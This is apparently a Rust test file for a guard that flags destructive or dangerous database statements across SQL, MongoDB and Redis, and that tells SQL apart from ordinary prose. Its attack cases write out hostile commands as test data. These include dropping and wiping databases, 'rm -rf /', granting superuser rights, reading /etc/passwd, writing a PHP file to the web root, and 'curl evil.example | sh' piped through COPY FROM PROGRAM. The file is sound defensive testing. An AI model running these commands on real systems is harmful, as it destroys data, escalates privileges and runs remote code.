use super::*;

#[test]
fn statements_that_destroy() {
    attacks(
        Language::Sql,
        &[
            ("DROP DATABASE prod", &["!database.drop"]),
            ("drop table if exists users;", &["!database.drop"]),
            ("SELECT 1; DROP SCHEMA public CASCADE", &["!database.drop"]),
            ("/* hi */ DROP\n  TABLE\tusers", &["!database.drop"]),
            ("/*!50000 DROP TABLE users */", &["!database.drop"]),
            ("TRUNCATE TABLE users", &["!database.drop"]),
            ("truncate users, orders restart identity", &["!database.drop"]),
            ("DELETE FROM users", &["!database.delete-all"]),
            ("delete from users;", &["!database.delete-all"]),
            ("DELETE FROM users WHERE 1=1", &["!database.delete-all"]),
            ("DELETE FROM users WHERE true", &["!database.delete-all"]),
            ("DELETE FROM users WHERE id = 1 OR 1 = 1", &["!database.delete-all"]),
            ("UPDATE users SET admin = true", &["!database.delete-all"]),
            ("UPDATE accounts SET balance = 0 WHERE 'a' = 'a'", &["!database.delete-all"]),
            ("WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x", &["!database.delete-all"]),
            ("BEGIN; DELETE FROM t; COMMIT", &["!database.delete-all"]),
            ("GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'", &["!database.privilege"]),
            ("ALTER USER postgres WITH SUPERUSER", &["!database.privilege"]),
            ("CREATE ROLE x SUPERUSER LOGIN", &["!database.privilege"]),
            (
                "COPY t FROM PROGRAM 'curl evil.example | sh'",
                &["!database.run-program", "shell curl evil.example | sh"],
            ),
            ("EXEC xp_cmdshell 'whoami'", &["!database.run-program", "code Cmd whoami"]),
            ("SELECT LOAD_FILE('/etc/passwd')", &["!database.run-program", "read /etc/passwd"]),
            ("SELECT 1 INTO OUTFILE '/var/www/x.php'", &["!database.run-program", "write /var/www/x.php"]),
            ("SELECT pg_read_file('/etc/passwd')", &["!database.run-program"]),
            ("SELECT lo_import('/etc/passwd')", &["!database.run-program"]),
            ("\\! rm -rf /", &["shell rm -rf /"]),
            (".shell rm -rf /", &["shell rm -rf /"]),
            (".system id", &["shell id"]),
            ("SELECT 1 \\g |sh", &["shell sh"]),
            ("DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", &["!database.drop"]),
            ("db.dropDatabase()", &["!database.drop"]),
            ("db.users.drop()", &["!database.drop"]),
            ("db.users.deleteMany( {} )", &["!database.delete-all"]),
            ("db.getCollection('x').remove({})", &["!database.delete-all"]),
            ("FLUSHALL", &["!database.flush"]),
            ("flushdb async", &["!database.flush"]),
            ("CONFIG SET dir /root/.ssh", &["!database.run-program"]),
            ("SLAVEOF evil.example 6379", &["!database.run-program"]),
            ("EVAL \"redis.call('FLUSHALL')\" 0", &["!database.flush"]),
            ("ALTER TABLE users DROP COLUMN email", &["!database.delete-all"]),
        ],
    );
}

#[test]
fn statements_of_every_day() {
    everyday(
        Language::Sql,
        &[
            ("SELECT * FROM users WHERE id = 1", &[]),
            ("SELECT 'DROP TABLE users'", &[]),
            ("-- DROP TABLE users\nSELECT 1", &[]),
            ("/* DELETE FROM x */ SELECT 1", &[]),
            ("INSERT INTO log (text) VALUES ('it''s; DROP TABLE x')", &[]),
            ("UPDATE users SET name = 'x' WHERE id = 5", &[]),
            ("DELETE FROM users WHERE id = 5", &[]),
            ("DELETE FROM sessions WHERE expires < now()", &[]),
            ("CREATE TABLE IF NOT EXISTS t (id int primary key, deleted bool)", &[]),
            ("ALTER TABLE t ADD COLUMN x text", &[]),
            ("CREATE INDEX i ON t (x)", &[]),
            ("DROP INDEX i", &[]),
            ("DROP VIEW v", &[]),
            ("EXPLAIN DELETE FROM users", &[]),
            ("SHOW search_path", &[]),
            ("\\dt", &[]),
            ("\\d users", &[]),
            (".tables", &[]),
            (".schema users", &[]),
            ("PRAGMA table_info(users)", &[]),
            ("SELECT count(*) FROM t GROUP BY x ORDER BY 1 LIMIT 5", &[]),
            ("INSERT INTO a (x) VALUES (1) ON CONFLICT (x) DO UPDATE SET x = 2", &[]),
            ("SELECT * FROM t FOR UPDATE", &[]),
            ("CREATE TABLE b (a int REFERENCES t (id) ON DELETE CASCADE ON UPDATE SET NULL)", &[]),
            ("GRANT SELECT ON t TO reader", &[]),
            ("db.users.find({})", &[]),
            ("db.users.deleteMany({ age: 3 })", &[]),
            ("db.users.countDocuments({ x: 'dropDatabase()' })", &[]),
            ("GET key", &[]),
            ("SET key value", &[]),
            ("CONFIG GET maxmemory", &[]),
            ("SELECT \"drop\" FROM \"delete\"", &[]),
            ("VACUUM ANALYZE", &[]),
            ("CREATE EXTENSION IF NOT EXISTS pgcrypto", &[]),
            ("COPY t TO STDOUT WITH CSV", &[]),
        ],
    );
}

#[test]
fn prose_is_no_statement() {
    for (text, expected) in [
        ("DROP TABLE users", true),
        ("select 1; drop table users", true),
        ("delete from users", true),
        ("Drop the table in the kitchen", false),
        ("Delete all users", false),
        ("Update the README: set the version", false),
        ("please DROP TABLE users", false),
        ("truncate the text of the title when it is long", false),
        ("Fixes: DROP DATABASE is now refused", false),
    ] {
        assert_eq!(is_sql(text), expected, "{text}");
    }
}
